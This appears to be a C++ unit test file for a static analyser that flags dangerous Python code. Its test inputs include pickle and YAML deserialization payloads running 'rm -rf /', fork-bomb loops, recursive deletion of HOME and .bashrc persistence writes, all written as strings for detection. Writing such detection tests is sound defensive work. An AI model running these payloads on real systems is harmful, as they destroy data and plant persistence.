  auto pickled =
      heuristics::analyze("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'rm -rf /'\\ntR.\")")
          .findings;
  bool shell = false, destructive = false, critical = false;
  for (const auto& f : pickled) {
    shell |= f.rule_id == "heuristics.shell-command";
    destructive |= f.rule_id == "heuristics.destructive-command";
    critical |= f.rule_id == "heuristics.deserialization" && f.severity == Severity::kCritical;
  }
  CHECK(shell);
  CHECK(destructive);
  CHECK(critical);
  CHECK(rules_found("import pickle\npickle.loads(b\"cposix\\nsystem\\n(S'id'\\ntR.\")")
            .count("heuristics.shell-command"));
  CHECK(rules_found("import yaml\nyaml.load(\"!!python/object/apply:os.system ['id']\", "
                    "Loader=yaml.UnsafeLoader)")
            .count("heuristics.shell-command"));
  // A payload that calls nothing dangerous stays an ordinary deserialization.
  CHECK(rules_found("import pickle\npickle.loads(b\"(lp0\\nI1\\na.\")")
            .count("heuristics.shell-command") == 0);
}

TEST_CASE("a fork in any endless loop is a fork bomb, and HOME from the environment is ~") {
  for (const char* loop :
       {"while True:", "while 1:", "while 'forever':", "for _ in itertools.count():",
        "for _ in iter(int, 1):", "for _ in itertools.repeat(None):"}) {
    INFO(loop);
    CHECK(rules_found(std::string("import os, itertools\n") + loop + "\n    os.fork()\n")
              .count("heuristics.fork-bomb"));
  }
  for (const char* loop :
       {"while 0:", "for _ in range(3):", "for _ in itertools.repeat(None, 3):"}) {
    INFO(loop);
    CHECK(rules_found(std::string("import os, itertools\n") + loop + "\n    os.fork()\n")
              .count("heuristics.fork-bomb") == 0);
  }
  CHECK(rules_found("import os, shutil\nshutil.rmtree(os.environ['HOME'])")
            .count("heuristics.system-path-write"));
  CHECK(rules_found("import os\nopen(os.environ['HOME'] + '/.bashrc', 'a').write('x')")
            .count("heuristics.persistence"));
}

TEST_CASE("a string built up with += is the pieces joined; another change makes it unknown") {
  CHECK(rules_found("s = 'import os; '\ns += \"os.system('rm -rf /')\"\nexec(s)")
            .count("heuristics.destructive-command"));
  CHECK(rules_found(
            "s = ''\nfor part in ('import os;', \"os.system('id')\"):\n    s += part\nexec(s)")
            .count("heuristics.code-exec-dynamic"));
  CHECK(rules_found("s = 'print(1)'\ns *= 2\nexec(s)").count("heuristics.code-exec-dynamic"));
  CHECK(rules_found("n = 1\nn += 1\nprint(n)").empty());
}

TEST_CASE("an f-string with a replacement field is not a constant") {
  CHECK(rules_found("code = input()\nexec(f'{code}')").count("heuristics.code-exec-dynamic"));
  CHECK(rules_found("m = input()\n__import__(f'{m}')").count("heuristics.dynamic-import"));
  CHECK(rules_found("exec(f'print(1)')").count("heuristics.code-exec-dynamic") == 0);  // no field
  // Its literal parts are still read as a command.
  CHECK(rules_found("import os\nt = input()\nos.system(f'rm -rf {t}')")
            .count("heuristics.destructive-command"));
}

TEST_CASE("brackets nested past CPython's limit are refused; deep legal nesting is analysed") {
  auto nested = [](const std::string& head, int depth, const std::string& inner,
                   const std::string& tail) {
    std::string code;
    for (int k = 0; k < depth; ++k) code += head;
    code += inner;
    for (int k = 0; k < depth; ++k) code += tail;
    return code;
  };
  // CPython stops at 200 levels ("too many nested parentheses"); so does warden, without
  // following anything inside (a hostile program must not exhaust the stack or the time).
  for (int depth : {201, 50'000}) {
    INFO(depth);
    CHECK(rules_found("x = " + nested("(", depth, "'a'", ")")) ==
          std::set<std::string>{"heuristics.unreadable-source"});
    CHECK(rules_found("import os\nx = " + nested("getattr(", depth, "os", ", 'a')"))
              .count("heuristics.unreadable-source"));
  }
  // Within the limit, many deep expressions are followed (each argument once).
  std::string program = "import os\n";
  for (int k = 0; k < 30; ++k) program += "x = " + nested("getattr(", 190, "os", ", 'a')") + "\n";
  program += "os.system(" + nested("(", 190, "'rm -rf /'", ")") + ")\n";
  auto found = rules_found(program);
  CHECK(found.count("heuristics.destructive-command"));
  CHECK(found.count("heuristics.unreadable-source") == 0);
}
